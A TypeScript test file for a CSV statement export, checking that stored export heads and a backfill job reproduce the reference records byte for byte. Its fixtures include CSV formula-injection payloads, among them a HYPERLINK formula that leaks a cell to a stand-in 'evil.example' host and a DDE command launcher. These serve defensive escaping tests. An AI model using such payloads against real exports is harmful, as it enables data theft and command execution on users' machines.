import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { createSilentLogger } from '../../server/config/logger.ts';
import { csvText } from '../../server/shared/csv-format.ts';
import { statementRecord } from '../../server/export/statement-rows.ts';
import { statementExportHead, type ExportHeadScore } from '../../server/store/statement-export-head.ts';
import { createExportHeadBackfill } from '../../server/jobs/export-head-backfill.ts';
import { createExportQueries, type StatementExportTuple } from '../../server/store/export-queries.ts';
import type { NewStatement, ScoredFields, StoredSignal } from '../../server/store/statements-repo.ts';
import { createTempStore, TEST_STORE } from '../helpers/temp-store.ts';
import { createExportApp, DAY, HOUR } from './export-fixtures.ts';

// The ready-made head of migration 007 against statementRecord(), the reference it must match
// byte for byte, and the fallback for rows without a head.

const T0 = Date.UTC(2026, 10, 1);
const HOSTILE = [
  '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-2+3',
  '\t=1+1 after a tab',
  '\r=1+1 after a carriage return',
  // PostgreSQL's text holds no NUL (ingest strips control characters before either store sees them).
  ...(TEST_STORE === 'postgres' ? [] : ['\0=leading nul']),
  'He said "we will respond", firmly, and left.',
  'First line.\nSecond line, with a comma.\r\nThird line "quoted".',
  'Missiles 🚀 and fire 🔥, flags 🇷🇺🇺🇦, zero-width\u200Bjoiner',
  'وزارة الخارجية الإيرانية: "سنرد بحزم" \u202Bمقلوب\u202C',
  'עברית עם "מרכאות", ופסיק',
  'A plain statement\tabout talks;\ttabs inside stay.',
  '',
  'plain',
];
const SCORES = [91.5, 3.5, 33.333333333333336, 0.30000000000000004, 0, 100, -2, 60.2, 1e-7, 55.5];

const pick = <T>(list: readonly T[], i: number): T => list[i % list.length]!;

function statement(i: number): NewStatement {
  return {
    dedupeKey: `head:${i}`,
    externalId: null,
    text: pick(HOSTILE, i),
    speaker: i % 5 === 4 ? null : pick(HOSTILE, i + 3),
    source: i % 4 === 3 ? null : i % 2 === 0 ? '@state_media, "official"' : pick(HOSTILE, i + 7),
    url: i % 3 === 0 ? `https://example.org/a?b=${i}&c=d,e` : null,
    publishedAt: null,
    receivedAt: T0 + i * HOUR + 7,
    occurredAt: T0 + i * HOUR + (i % 2 === 0 ? 7 : DAY + 999),
    origin: 'api',
    isDemo: false,
  };
}

function signal(category: string, text: string, weight: number, start: number): StoredSignal {
  return { category, polarity: 'escalation', weight, modality: 'asserted', text, start, end: start + text.length };
}

function scored(i: number): ScoredFields {
  const signals = [
    [signal('threat-of-force', 'will respond', 2, 5), signal('ultimatum', '=within 48 hours', 5, 30), signal('accusation', 'they, "provoked"', 2, 1), signal('mobilization', '+troops', 0.5, 9)],
    [signal('only', 'one, "quoted"', 0.5, 0)],
    [],
    [signal('a', 'x', 1, 9), signal('b', 'y', 1, 2), signal('c', 'z', 1, 2), signal('d', '@w', 3, 50)],
  ];
  return {
    score: pick(SCORES, i),
    level: i % 6 === 5 ? '=level' : 'high',
    // Every third statement has no canonical actor: the export then shows the speaker as given.
    actor: i % 3 === 1 ? null : pick(HOSTILE, i + 5),
    targets: [[], ['Ukraine', 'NATO'], ['-Minus, Inc.', '"Quoted" Name', '🇺🇦']][i % 3]!,
    mentioned: [],
    signals: pick(signals, i),
    scorerVersion: i % 4 === 2 ? '=1.0' : 'test-1.0',
    scoredAt: T0,
  };
}

/** The StatementExportTuple the export would read from the stored columns. */
function tupleOf(id: number, s: NewStatement, f: ExportHeadScore | null): StatementExportTuple {
  if (!f) return [id, s.occurredAt, s.speaker, null, s.source, s.url, null, null, null, null, 'pending', null, s.text];
  return [id, s.occurredAt, f.actor ?? s.speaker, JSON.stringify(f.targets), s.source, s.url, f.score, f.level, JSON.stringify(f.signals), f.scorerVersion, 'scored', null, s.text];
}

test('id + statementExportHead() + text is exactly statementRecord() of the same row, pending or scored', () => {
  for (let i = 0; i < 60; i++) {
    const s = statement(i);
    for (const f of [null, scored(i)]) {
      const id = 1000 + i;
      const record = `${id}${statementExportHead(s, f)}${csvText(s.text)}\r\n`;
      assert.equal(record, statementRecord(tupleOf(id, s, f)), JSON.stringify({ i, s, f }));
    }
  }
});

test('statementExportHead() leaves the signals in their order', () => {
  const f = scored(0);
  const before = f.signals.map((g) => g.text);
  statementExportHead(statement(0), f);
  assert.deepEqual(f.signals.map((g) => g.text), before);
});

/** Pending, scored by saveScored, stored scored by insertScored, and failed statements. */
function seed(t: ReturnType<typeof createTempStore>): void {
  const repo = t.store.statements;
  t.store.transaction(() => {
    for (let i = 0; i < 60; i++) {
      const s = statement(i);
      const kind = i % 4;
      if (kind === 0) {
        repo.insertScored(s, { ...scored(i), lang: i % 8 === 0 ? 'en' : 'und' });
      } else if (kind === 3 && i % 8 === 7) {
        // In a language the scorer does not read: stored so, or found so when scored.
        if (i % 16 === 7) repo.insertUnsupported(s, { lang: 'ru', decidedAt: T0, exportHead: statementExportHead(s, null, { status: 'unsupported', lang: 'ru' }) });
        else repo.markUnsupported(repo.insert(s).id, { lang: '=zh', decidedAt: T0 });
      } else {
        const { id } = repo.insert(s);
        if (kind === 1) repo.saveScored(id, scored(i));
        if (kind === 2) repo.markFailed(id, 'scorer threw');
      }
    }
  });
}

test('the repository writes each statement the head its columns export to: insert, insertScored, saveScored, failed, unsupported', () => {
  const t = createTempStore();
  try {
    seed(t);
    const statuses = t.store.statements.countByStatus();
    assert.deepEqual(statuses, { pending: 8, scored: 30, failed: 15, unsupported: 7 });
    const reader = t.store.openReader();
    const queries = createExportQueries(reader);
    const reference = [...queries.iterateStatements({})].map(statementRecord);
    const rows = [...queries.iterateStatementRows({})];
    reader.close();
    assert.equal(rows.length, 60);
    assert.ok(rows.every((r) => r[1] !== null && r[3] === null), 'every row has a head and no fallback columns');
    assert.deepEqual(rows.map((r) => `${r[0]}${r[1]}${csvText(r[2])}\r\n`), reference);
  } finally {
    t.cleanup();
  }
});

test('statements without a head (stored before migration 007) export byte for byte the same, alone or mixed', async () => {
  const t = createTempStore();
  after(() => t.cleanup());
  seed(t);
  const { app } = createExportApp(t.store, { now: () => T0 + 10 * DAY });
  const url = '/api/export/statements.csv?from=2026-11-01&to=2026-11-10&bom=1';
  const download = async () => {
    const res = await request(app).get(url).buffer(true).parse((r, cb) => {
      const chunks: Buffer[] = [];
      r.on('data', (c: Buffer) => chunks.push(c));
      r.on('end', () => cb(null, Buffer.concat(chunks)));
    });
    assert.equal(res.status, 200);
    return res.body as Buffer;
  };
  const heads = () => t.store.db.prepare('SELECT COUNT(export_head) FROM statements').pluck().get() as number;
  assert.equal(heads(), 60);
  const withHeads = await download();
  assert.equal((parse(withHeads, { bom: true, record_delimiter: '\r\n' }) as string[][]).length, 61, 'header and 60 records');

  t.store.db.exec('UPDATE statements SET export_head = NULL WHERE id % 3 = 0');
  assert.equal(heads(), 40);
  assert.ok((await download()).equals(withHeads), 'mixed heads and NULLs');

  t.store.db.exec('UPDATE statements SET export_head = NULL');
  assert.equal(heads(), 0);
  assert.ok((await download()).equals(withHeads), 'every head NULL: the pre-007 path');
});

test('at start, heads missing from statements stored before migration 007 are filled exactly as the repository writes them', async () => {
  const t = createTempStore();
  try {
    seed(t);
    const all = () => t.store.db.prepare('SELECT id, export_head FROM statements ORDER BY id').all() as Array<{ id: number; export_head: string | null }>;
    const written = all();
    t.store.db.exec('UPDATE statements SET export_head = NULL');
    const backfill = createExportHeadBackfill({ store: t.store, logger: createSilentLogger(), batchSize: 7 });
    // Stopped after its first batch (a shutdown), it leaves the rest for the next start.
    const first = backfill.run();
    backfill.stop();
    assert.equal(await first, 7);
    assert.equal(all().filter((r) => r.export_head !== null).length, 7);
    assert.equal(await createExportHeadBackfill({ store: t.store, logger: createSilentLogger(), batchSize: 7 }).run(), 53);
    assert.deepEqual(all(), written);
    assert.equal(await createExportHeadBackfill({ store: t.store, logger: createSilentLogger() }).run(), 0, 'nothing left');
  } finally {
    t.cleanup();
  }
});
